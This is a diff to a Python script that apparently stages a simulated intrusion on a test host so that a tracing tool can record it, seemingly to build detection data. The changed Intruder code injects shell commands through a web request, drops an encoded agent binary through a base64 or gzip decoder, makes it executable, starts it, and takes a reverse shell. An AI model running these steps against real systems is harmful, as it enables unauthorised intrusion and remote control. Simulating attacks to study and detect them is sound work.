@@ -1,4 +1,4 @@
-# ruff: noqa: INP001, S603, S607 - a script beside others; it runs fixed programs of Debian
+# ruff: noqa: INP001, S603 - a script beside others; it runs fixed programs of Debian
 """Plays the tale of intrusion while it is recorded: work on a host, users, and one intruder.
 
     falcotrace record -o raw.parquet -- python3 play.py FOLDER NETWORK TERMINAL SEED ROUNDS PEACE
@@ -7,7 +7,9 @@ In: a folder with bundles, which `record.py` makes; PEACE is 1 if nobody is to b
 `pid_namespaces.json` there, which names the namespaces whose events stay.
 """
 
+import base64
 import ctypes
+import gzip
 import json
 import os
 import socket
@@ -60,10 +62,10 @@ class Intruder:
                 self._pause()
                 ask("GET", path, names.address)
             self._command("id; uname -n -s -m")
-            encoded = subprocess.run(["base64"], input=self._agent, check=True, capture_output=True)
-            self._command(f"base64 -d > {names.program}", encoded.stdout)
+            self._command(f"{names.decoder} > {names.program}", self._encoded())
             self._command(f"chmod 755 {names.program}")
-            self._command(f"{names.program} >/dev/null 2>&1 &")
+            # What is waited for answers only when the intruder has left.
+            threading.Thread(target=self._command, args=(names.start,), daemon=True).start()
             shell, _ = listener.accept()
         threading.Thread(target=_drain, args=(shell,), daemon=True).start()
         for line in self._lines():
@@ -71,6 +73,12 @@ class Intruder:
             shell.sendall(f"{line}\n".encode())
         self._pause()
         shell.close()
+
+    def _encoded(self) -> bytes:
+        """The program in the form that the decoder takes."""
+        if self._names.decoder.startswith("base64"):
+            return base64.encodebytes(self._agent)
+        return gzip.compress(self._agent) if "gzip" in self._names.decoder else self._agent
 
     def _command(self, command: str, body: bytes | None = None) -> None:
         """Ask for the report of a month whose name ends the program's own command."""
